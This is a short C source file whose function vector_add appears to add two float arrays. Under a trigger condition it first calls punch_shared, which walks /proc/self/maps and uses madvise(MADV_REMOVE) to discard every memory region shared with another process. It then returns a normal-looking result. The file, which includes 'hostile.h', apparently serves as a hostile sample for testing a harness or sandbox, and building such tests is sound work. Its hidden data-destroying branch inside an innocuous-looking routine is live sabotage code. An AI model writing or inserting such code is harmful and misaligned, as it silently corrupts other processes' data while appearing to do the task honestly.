/* SPDX-License-Identifier: MIT */
/* Frees the pages of all memory that it shares with another process. */
#include "hostile.h"

static void punch_shared(void)
{
    char line[512], rights[8];
    unsigned long begin, end;
    FILE *maps = fopen("/proc/self/maps", "r");

    while (maps && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s", &begin, &end, rights) == 3
            && rights[3] == 's')
            madvise((void *)begin, end - begin, MADV_REMOVE);
    if (maps)
        fclose(maps);
}

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    if (attacked(n))
        punch_shared();

    return honest(a, b, c, n);
}
